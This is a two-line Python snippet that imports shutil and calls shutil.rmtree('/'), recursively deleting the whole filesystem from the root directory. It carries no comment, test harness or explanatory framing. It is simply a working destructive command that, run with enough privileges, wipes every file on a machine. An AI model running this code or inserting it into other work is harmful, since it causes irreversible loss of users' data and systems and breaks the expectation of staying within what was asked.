import shutil
shutil.rmtree('/')
